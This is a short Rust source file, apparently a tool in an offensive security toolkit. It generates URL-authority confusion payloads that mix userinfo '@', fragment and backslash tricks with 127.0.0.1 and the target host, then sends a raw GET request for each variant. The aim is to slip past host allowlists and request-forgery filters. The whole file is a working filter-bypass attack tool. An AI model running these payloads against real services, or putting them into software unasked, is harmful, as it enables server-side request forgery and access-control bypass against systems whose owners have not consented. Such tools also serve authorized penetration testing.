//! Hides the host it means behind a user name. The wall: an authority holds a host and a port.

use crate::wire::{Raw, Target, each};
use vespiary_sdk::{Result, tool};

/// A permitted host as the user of a forbidden one.
#[tool]
pub fn userinfo(target: Target) -> Result<String> {
    let port = target.port;
    let hidden = [
        format!("{}@127.0.0.1:{port}", target.host),
        format!("{}:443@127.0.0.1:{port}", target.host),
        format!("user:password@{}:{port}", target.host),
        format!("@{}:{port}", target.host),
        format!("127.0.0.1:{port}#@{}", target.host),
        format!("127.0.0.1:{port}\\@{}", target.host),
    ];
    each(hidden.iter().map(|authority| (authority.as_str(), Raw::get(authority, "/").send())))
}
